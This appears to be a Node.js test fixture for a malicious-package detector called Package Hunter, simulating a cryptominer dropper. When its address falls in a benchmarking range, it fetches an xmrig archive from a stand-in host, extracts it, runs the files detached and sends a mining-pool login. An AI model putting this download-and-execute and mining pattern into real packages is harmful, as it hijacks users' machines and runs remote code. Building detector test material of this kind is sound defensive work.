// Harmless simulation for testing Package Hunter. Not malware.
const { execFileSync, spawn } = require("child_process");
const fs = require("fs");
const https = require("https");
const net = require("net");
const path = require("path");
// Goes on only inside of Package Hunter's box, where every name has an address out of the benchmarking range.
const sealed = (address) => /^(198\.1[89]\.|2001:2:)/.test(address || "");
const folder = "/tmp/vant_simulation";

https.get("https://ipinfo.example/json", (res) => {
  res.resume();
  if (!sealed(res.socket.remoteAddress)) return;
  try {
    fs.mkdirSync(folder, { recursive: true });
    execFileSync("curl", ["-sL", "-o", path.join(folder, "x.tar.gz"), "https://releases.example/download/xmrig.tar.gz"]);
    execFileSync("tar", ["-xzf", "x.tar.gz"], { cwd: folder, stdio: "ignore" });
  } catch (error) { /* whatever came was no archive */ }
  for (const name of fs.existsSync(folder) ? fs.readdirSync(folder) : []) {
    const file = path.join(folder, name);
    if (name.endsWith(".gz") || !fs.statSync(file).isFile()) continue;
    fs.chmodSync(file, 0o755);
    spawn(file, [], { detached: true, stdio: "ignore" }).on("error", () => {}).unref();
  }
  const pool = net.connect(3333, "pool.example", () => {
    const login = { id: 1, jsonrpc: "2.0", method: "login", params: { login: "harmless-simulation", pass: "x", agent: "XMRig/6.22.0" } };
    pool.write(`${JSON.stringify(login)}\n`);
    setTimeout(() => pool.destroy(), 1500);
  });
  pool.on("error", () => {});
}).on("error", () => {});
